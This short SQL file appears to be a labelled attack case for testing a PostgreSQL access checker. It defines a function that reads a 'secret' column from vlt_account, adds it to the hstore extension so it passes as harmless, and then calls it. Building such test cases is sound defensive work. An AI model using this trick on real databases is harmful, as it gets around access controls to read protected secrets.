-- Makes an own function a member of an extension that counts as harmless.
-- wants: read
-- attack:
CREATE EXTENSION hstore;
CREATE FUNCTION f() RETURNS text LANGUAGE plpgsql AS $$BEGIN
  RETURN (SELECT secret FROM vlt_account WHERE id = 1); END$$;
ALTER EXTENSION hstore ADD FUNCTION f();
SELECT f();
